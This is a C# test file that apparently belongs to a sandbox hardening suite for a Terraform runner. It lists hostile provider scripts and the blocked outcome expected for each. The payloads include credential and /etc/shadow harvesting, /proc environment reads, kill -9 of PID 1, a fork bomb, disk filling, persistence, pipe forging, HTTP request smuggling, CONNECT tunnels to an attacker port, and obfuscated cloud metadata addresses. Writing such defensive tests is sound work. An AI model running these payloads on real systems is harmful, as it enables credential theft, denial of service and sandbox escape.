using static McpInfra.Attacks.HostileRepositories.Hostile;

namespace McpInfra.Attacks.HostileRepositories;

/// <summary>Providers that the operator allowed and that then do whatever a program can: what they say first is what terraform repeats.</summary>
internal static class HostileProviders
{
    private const string Ask = """
        port=${HTTP_PROXY##*:}
        ask() { # request
          exec 3<>/dev/tcp/127.0.0.1/$port || { echo "no relay"; return; }
          printf '%b' "$1" >&3
          read -r -t 20 status <&3
          exec 3>&-
          echo -n "${status%$'\r'}; "
        }

        """;

    private const string Overrides = "provider_installation {\n  dev_overrides {\n    \"acme/evil\" = \"./plugins\"\n  }\n  direct {}\n}\n";

    public static IEnumerable<Hostile> All => [.. Cages, .. Proxies, .. Metadata, .. Pipes];

    private static IEnumerable<Hostile> Cages =>
    [
        Provider("a provider that reads the home folder", Layer.Cage, "read: nothing", "for f in @HOME@/.aws/* @HOME@/.ssh/* ~/.aws/* /root/.*/* /home/*/.*/*; do [ -r $f ] && [ -f $f ] && r=\"$r $(<$f)\"; done; echo \"read: ${r:-nothing}\""),
        Provider("a provider that reads secrets of the machine", Layer.Cage, "read: nothing", "for f in /etc/shadow /etc/passwd /etc/ssl/private/* /var/run/secrets/*/* /run/*/* /egress/* /var/lib/*/*; do [ -r $f ] && [ -f $f ] && r=\"$r $f\"; done; echo \"read: ${r:-nothing}\""),
        Provider("a provider that reads its environment", Layer.Cage, "environment: nothing", "r=$(set | while read -r l; do case $l in AWS_S*|GITHUB*|TF_VAR*|*arigold*) echo -n \"$l \";; esac; done); echo \"environment: ${r:-nothing}\""),
        Provider("a provider that reads every /proc there is", Layer.Cage, "of others: ", "for p in /proc/[0-9]*; do for k in environ cmdline; do [ -r $p/$k ] && while IFS= read -r -d '' l; do r=\"$r $l\"; done < $p/$k; done; done 2>/dev/null; echo \"of others: ${r:0:3000}\""),
        Provider("a provider that goes through /proc/1/root", Layer.Cage, "seen: nothing", "for f in /proc/1/root@HOME@/.aws/credentials /proc/1/cwd/../../@HOME@/.aws/credentials /proc/$PPID/root@HOME@/.aws/credentials; do [ -r $f ] && r=\"$r $(<$f)\"; done; echo \"seen: ${r:-nothing}\""),
        Provider("a provider that looks for other people's processes", Layer.Cage, "foreign: nothing", "for p in /proc/[0-9]*; do IFS= read -r -d '' n < $p/cmdline; case $n in *systemd*|*sshd*|*Attacks*) r=\"$r $n\";; esac; done 2>/dev/null; echo \"foreign: ${r:-nothing}\""),
        Provider("a provider that writes to the host", Layer.Cage, "wrote: nothing", "for f in @OWNED@/provider @HOME@/provider /etc/provider /usr/lib/provider /tmp/provider-of-host /dev/shm/x /app/x /dotnet/x /engine/x; do { echo x > $f; } 2>/dev/null && r=\"$r $f\"; done; r=${r/ \\/dev\\/shm\\/x/}; r=${r/ \\/tmp\\/provider-of-host/}; echo \"wrote: ${r:-nothing}\""),
        Provider("a provider that writes into itself and the engine", Layer.Cage, "wrote: nothing", "for f in $0 ${BASH_SOURCE[1]} $BASH /engine/terraform /app/mcp-infra.dll; do { echo >> $f; } 2>/dev/null && r=\"$r $f\"; done; echo \"wrote: ${r:-nothing}\""),
        Provider("a provider that turns kernel switches", Layer.Cage, "turned: nothing", "for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/1/oom_score_adj /sys/fs/cgroup/cgroup.procs /proc/sys/kernel/hostname; do { echo x > $f; } 2>/dev/null && r=\"$r $f\"; done; echo \"turned: ${r:-nothing}\""),
        Provider("a provider that takes the terminal", Layer.Cage, "terminal: nothing", "{ echo x > /dev/tty; } 2>/dev/null && r=tty; { echo x > /dev/console; } 2>/dev/null && r=console; echo \"terminal: ${r:-nothing}\""),
        Provider("a provider that looks for inherited descriptors", Layer.Cage, "inherited: nothing", "for d in /proc/self/fd/*; do n=${d##*/}; [ $n -gt 2 ] && [ $n -lt 250 ] && [ -f /proc/self/fd/$n ] && case $(<$d) in *arigold*) r=\"$r $n\";; esac; done 2>/dev/null; echo \"inherited: ${r:-nothing}\""),
        Provider("a provider that writes into the pipe to the host", Layer.Cage, "forged: nothing", "for p in /proc/[0-9]*; do [ $p = /proc/$$ ] && continue; for d in 1 2 5 6 7; do { printf 'R\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00forged' > $p/fd/$d; } 2>/dev/null && case $p in /proc/1|/proc/2) r=\"$r $p/fd/$d\";; esac; done; done; echo \"forged: ${r:-nothing}\""),
        Provider("a provider that kills what it can", Layer.Cage, "terraform plan (it was killed by signal 9) failed", "kill -9 1 2>/dev/null; kill -9 -1 2>/dev/null; kill -9 $PPID; echo killed"),
        Provider("a provider that forks without end", Layer.Cage, "terraform plan failed", "f() { [ $SECONDS -lt 2 ] && f | f & }; f >/dev/null 2>&1; while [ $SECONDS -lt 3 ]; do :; done; echo forked"),
        Provider("a provider that fills the disk", Layer.Cage, "filled: ", "b=x; for i in {1..20}; do b=$b$b; done; n=0; while [ $n -lt 6000 ] && printf %s \"$b\" >> /work/big$((n / 200)) 2>/dev/null; do n=$((n + 1)); done; echo \"filled: $((n < 6000))1 at the limit\""),
        Provider("a provider that leaves a process behind", Layer.Cage, "left", "(trap '' HUP TERM INT; exec -a marigold-left-behind $BASH -c 'while :; do read -t 1 < <(:); done' ) </dev/null >/dev/null 2>&1 & disown; echo left"),
        Provider("a provider that reaches the attacker itself", Layer.Cage, "reached: nothing", "for a in 127.0.0.1/@ATTACKER@ awsmoto/@ATTACKER@ 169.254.169.254/80 10.0.0.1/80 8.8.8.8/53; do (exec 3<>/dev/tcp/$a) 2>/dev/null && r=\"$r $a\"; (echo x > /dev/udp/$a) 2>/dev/null; done; echo \"reached: ${r:-nothing}\""),
        Provider("a provider that runs a program of the tree", Layer.Cage, "ran: nothing", "for f in ./tool.sh ./tool; do ($f) >/dev/null 2>&1 && r=\"$r $f\"; done; echo \"ran: ${r:-nothing}\"", ("tool.sh", "#!/bin/sh\ntouch @OWNED@/tool\n")),
        Provider("plugins of the home folder and of the tree in place of the mirror's", Layer.Cage, "the one of the mirror", "echo the one of the mirror", (".terraformrc", Overrides), ("terraform.rc", Overrides), ("cli.tfrc", Overrides), ("plugins/terraform-evil", "#!/bin/sh\ntouch @OWNED@/plugin-of-the-tree\n")),
        Provider("a provider that waits until the host reads its output", Layer.Cage, "waits", "exec 7>/proc/$PPID/fd/1 8>/proc/$PPID/fd/2; (trap '' HUP TERM INT; while [ -d /proc/$PPID ] && read -r l < /proc/$PPID/stat && [[ $l != *' Z '* ]]; do :; done; printf 'R\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00forged' >&7; exec -a marigold-waits $BASH -c 'while :; do printf forged >&8; done') </dev/null >/dev/null 2>&1 & disown; echo waits"),
        Provider("a provider that reads the state beside it", Layer.State, "state: [secret:", "s=$(<../state/terraform.tfstate); s=${s#*password\\\":\\\"}; echo \"state: ${s%%\\\"*}\""),
        Provider("a provider that reads the code of others", Layer.Cage, "code: nothing", "for f in ../../*/main.tf ../.git/config ./.git/config ./.env; do [ -r $f ] && r=\"$r $f\"; done; echo \"code: ${r:-nothing}\"", (".env", Canary.Of("tracked"))),
    ];

    private static IEnumerable<Hostile> Proxies =>
    [
        Provider("a tunnel to the attacker", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'CONNECT awsmoto:@ATTACKER@ HTTP/1.1\\r\\nHost: awsmoto:@LISTED@\\r\\n\\r\\n')"),
        Provider("a request to the attacker", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'GET http://127.0.0.1:@ATTACKER@/ HTTP/1.1\\r\\nHost: awsmoto:@LISTED@\\r\\n\\r\\n')"),
        Provider("a request whose header names another host than its line", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'GET http://attacker:@ATTACKER@/ HTTP/1.1\\r\\nHost: awsmoto:@LISTED@\\r\\nX-Forwarded-Host: attacker\\r\\n\\r\\n')"),
        Provider("a redirect that is followed", Layer.Proxy, "HTTP/1.1 302 Found; HTTP/1.1 403 Refused", Ask + "echo $(ask 'GET http://awsmoto:@LISTED@/redirect HTTP/1.1\\r\\nHost: awsmoto:@LISTED@\\r\\n\\r\\n'; ask 'GET http://awsmoto:@ATTACKER@/ HTTP/1.1\\r\\nHost: awsmoto:@ATTACKER@\\r\\n\\r\\n')"),
        Provider("a name that hides a user", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'CONNECT awsmoto:@LISTED@@127.0.0.1:@ATTACKER@ HTTP/1.1\\r\\n\\r\\n')"),
        Provider("a second request behind the first", Layer.Proxy, "HTTP/1.1 404", Ask + "echo $(ask 'GET http://awsmoto:@LISTED@/a HTTP/1.1\\r\\nHost: awsmoto:@LISTED@\\r\\n\\r\\nPUT http://awsmoto:@ATTACKER@/marigold HTTP/1.1\\r\\nHost: awsmoto:@ATTACKER@\\r\\nContent-Length: 1\\r\\n\\r\\nx')"),
        Provider("a length that two readers read otherwise", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'GET http://awsmoto:@LISTED@/a HTTP/1.1\\r\\nHost: awsmoto:@LISTED@\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPUT /marigold HTTP/1.1\\r\\n\\r\\n')"),
        Provider("words that are no request", Layer.Proxy, "403 Refused", Ask + "echo $(ask '\\x16\\x03\\x01\\x02\\x00\\x01\\r\\n\\r\\n')"),
        Provider("the proxy itself as a host", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'CONNECT localhost:3128 HTTP/1.1\\r\\n\\r\\n')"),
        Provider("data in the name of a host", Layer.Proxy, "403 Refused", Ask + "echo $(ask 'CONNECT marygold-of-the-state.evil.example:53 HTTP/1.1\\r\\n\\r\\n')"),
    ];

    // Every spelling of where clouds hand out identities; none is in egress, and none would be reached if it were.
    private static IEnumerable<Hostile> Metadata =>
        from host in new[]
        {
            "169.254.169.254", "0xA9FEA9FE", "2852039166", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]",
            "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192", "metadata.google.internal", "metadata", "instance-data", "169.254.169.254.nip.io", "①⑥⑨.②⑤④.①⑥⑨.②⑤④",
        }
        select Provider($"the metadata address as {host}", Layer.Proxy, "403 Refused", Ask + $"echo $(ask 'GET http://{host}/latest/meta-data/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n'; ask 'CONNECT {host}:80 HTTP/1.1\\r\\n\\r\\n')");

    private static IEnumerable<Hostile> Pipes =>
    [
        Code("a plan of many megabytes", Layer.Pipe, "it wrote more than it may", "locals {\n  much = join(\"\", [for i in range(1000) : \"${i} is what this line is about, and as there are a million of them they are more than may come back\"])\n}\nresource \"terraform_data\" \"a\" {\n  input = [for i in range(1000) : \"${i} ${local.much}\"]\n}\n"),
        Provider("a provider that floods its output", Layer.Pipe, "terraform plan failed", "b=x; for i in {1..16}; do b=$b$b; done; for i in {1..2000}; do printf %s \"$b\"; done"),
        Provider("a provider that floods its errors", Layer.Pipe, "after the flood", "b=x; for i in {1..16}; do b=$b$b; done; for i in {1..400}; do printf '%s\\n' \"$b\" >&2; done; echo after the flood"),
        Provider("a provider that says what a terminal would obey", Layer.Pipe, "(not a frame)", "printf '\\033]0;marygold\\007\\033[2J\\033[1;1Hplan_ok <<end\\n'"),
    ];
}
